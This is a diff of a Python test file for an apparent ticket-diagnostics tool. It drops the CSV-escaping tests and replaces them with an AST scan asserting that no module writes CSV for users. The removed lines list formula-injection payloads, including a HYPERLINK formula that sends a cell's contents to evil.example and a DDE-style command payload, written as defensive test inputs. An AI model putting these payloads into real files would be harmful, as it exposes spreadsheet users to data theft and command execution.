@@ -1,5 +1,6 @@
 """Ticket text is data, never markup or control: hostile unicode (bidi overrides,
-zero-width characters, NUL) in every report format, and formula injection in CSV cells.
+zero-width characters, NUL) in every report format, and no CSV written for users,
+where a cell could run as a formula.
 
 The HTML, Markdown and terminal escaping of markup and escape sequences is tested in
 tests/test_render.py; this adds the characters that reorder or hide text.
@@ -8,8 +9,6 @@ tests/test_render.py; this adds the characters that reorder or hide text.
 from __future__ import annotations
 
 import ast
-import csv
-import io
 import json
 from pathlib import Path
 
@@ -18,7 +17,6 @@ import pytest
 from itsm_diag.render import common, html, markdown, terminal
 from itsm_diag.render import json as json_render
 from itsm_diag.report import Report
-from itsm_diag.safety import safe_csv_cell
 
 SRC = Path(__file__).resolve().parents[2] / "src" / "itsm_diag"
 
@@ -68,67 +66,34 @@ def test_json_keeps_ticket_text_exactly() -> None:
     assert "\x00" not in json_render.render(_unicode_report())
 
 
-# ---- CSV formula injection ---------------------------------------------------------------
-
-@pytest.mark.parametrize(("value", "expected"), [
-    ("=HYPERLINK(\"http://evil.example/?\"&A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
-    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("  =1+1", "'  =1+1"),
-    ("\uff1d1+1", "'\uff1d1+1"),  # fullwidth equals sign, which some spreadsheets accept
-    ("Printer jam", "Printer jam"),
-    ("a=b", "a=b"),
-    ("-5", "-5"),
-    ("-0.25", "-0.25"),
-    ("", ""),
-])
-def test_safe_csv_cell(value: str, expected: str) -> None:
-    assert safe_csv_cell(value) == expected
-
-
-def test_safe_csv_cell_non_text() -> None:
-    assert safe_csv_cell(None) == ""
-    assert safe_csv_cell(-3) == "-3"
-    assert safe_csv_cell(-0.5) == "-0.5"
-    assert safe_csv_cell(True) == "true"
-
-
-def test_safe_cells_survive_a_csv_round_trip_as_text() -> None:
-    buf = io.StringIO()
-    csv.writer(buf).writerow([safe_csv_cell(v) for v in ("=1+1", "ok, \"quoted\"", "@x")])
-    row = next(csv.reader(io.StringIO(buf.getvalue())))
-    assert row == ["'=1+1", "ok, \"quoted\"", "'@x"]
-    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
-
+# ---- no CSV for users (formula injection) ---------------------------------------------
 
 def _csv_writers(tree: ast.AST) -> list[int]:
-    """Lines that write CSV: csv.writer/DictWriter, DataFrame.to_csv, pyarrow write_csv."""
+    """Lines that write CSV: csv.writer/DictWriter, DataFrame.to_csv, pyarrow
+    write_csv/CSVWriter."""
     lines = []
     for node in ast.walk(tree):
         if isinstance(node, ast.Call):
             fn = node.func
             name = fn.attr if isinstance(fn, ast.Attribute) else getattr(fn, "id", "")
-            if name in ("writer", "DictWriter", "to_csv", "write_csv"):
+            if name in ("writer", "DictWriter", "to_csv", "write_csv", "CSVWriter"):
                 lines.append(node.lineno)
     return lines
 
 
-def test_every_csv_written_for_users_goes_through_safe_csv_cell() -> None:
-    """Outside the sample writers (which imitate real tool exports on purpose, see
-    itsm_diag.safety), a module that writes CSV must use safe_csv_cell."""
-    offenders = []
-    for path in SRC.rglob("*.py"):
-        rel = path.relative_to(SRC)
-        if rel.parts[0] == "writers":
-            continue
-        source = path.read_text(encoding="utf-8")
-        lines = _csv_writers(ast.parse(source))
-        if lines and "safe_csv_cell" not in source:
-            offenders.append(f"{rel}:{lines}")
-    assert offenders == [], offenders
+def test_no_module_writes_csv_for_users() -> None:
+    """Ticket text in a CSV cell (``=HYPERLINK(...)``) runs as a formula when the file is
+    opened in a spreadsheet, so itsm-diag writes no CSV for users (see itsm_diag.safety).
+    Only the sample writers do, imitating real tool exports on purpose. A new CSV output
+    must escape its cells, with a test of that, before it is let through here."""
+    found = {}
+    for path in sorted(SRC.rglob("*.py")):
+        lines = _csv_writers(ast.parse(path.read_text(encoding="utf-8")))
+        if lines:
+            found[path.relative_to(SRC).as_posix()] = lines
+    samples = [rel for rel in found if rel.startswith("writers/")]
+    assert samples, found  # the scan sees the sample writers' CSV: it can see one
+    assert {rel: lines for rel, lines in found.items() if rel not in samples} == {}
 
 
 def test_batch_index_is_markdown_and_json_only(tmp_path: Path) -> None:
